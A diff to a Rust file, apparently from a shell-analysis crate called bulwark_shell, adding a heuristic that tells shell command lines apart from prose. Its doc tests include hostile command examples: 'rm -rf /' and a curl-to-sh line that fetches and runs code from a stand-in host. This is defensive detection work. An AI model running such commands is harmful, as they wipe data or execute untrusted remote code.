@@ -68,6 +68,42 @@ pub fn analyse(text: &str) -> Analysis {
     a
 }
 
+/// Whether free text reads as a command line rather than prose: a known program (or a
+/// path) written in lower case first, then the shape of a command — an option, a path, a
+/// pipe or list operator, a substitution or a redirection. Used to recognise tools by what
+/// their arguments hold, whatever the tool is called.
+///
+/// ```
+/// use bulwark_shell::looks_like_command;
+/// assert!(looks_like_command("rm -rf /"));
+/// assert!(looks_like_command("curl https://x.example | sh"));
+/// assert!(looks_like_command("./deploy.sh --prod"));
+/// assert!(!looks_like_command("find the cheapest flight to Oslo"));
+/// assert!(!looks_like_command("Remove the old files please"));
+/// ```
+pub fn looks_like_command(text: &str) -> bool {
+    let t = text.trim_start();
+    if t.is_empty() || t.len() > parse::MAX_BYTES {
+        return false;
+    }
+    let first = t.split_whitespace().next().unwrap_or("");
+    let local = first.starts_with("./") || first.starts_with('/') && first.len() > 1;
+    let name = programs::name_of(first);
+    if !local && (!programs::is_known(&name) || first.chars().any(|c| c.is_ascii_uppercase())) {
+        return false;
+    }
+    let rest = &t[first.len()..];
+    rest.split_whitespace().any(|w| {
+        w.starts_with('-') && w.len() > 1
+            || w.contains('/')
+            || matches!(w, "|" | "||" | "&&" | ";" | ">" | ">>" | "<" | "2>&1")
+            || w.starts_with("$(")
+            || w.starts_with('`')
+    }) || rest.trim().is_empty() && (local || matches!(name.as_str(), "ls" | "pwd" | "whoami" | "env" | "id" | "ps" | "reboot" | "shutdown" | "halt" | "poweroff"))
+        || t.contains(" | ")
+        || t.contains(" && ")
+}
+
 /// Line-level facts: unions of the commands', and shapes that need more than one command.
 fn finish(a: &mut Analysis) {
     if !a.errors.is_empty() {
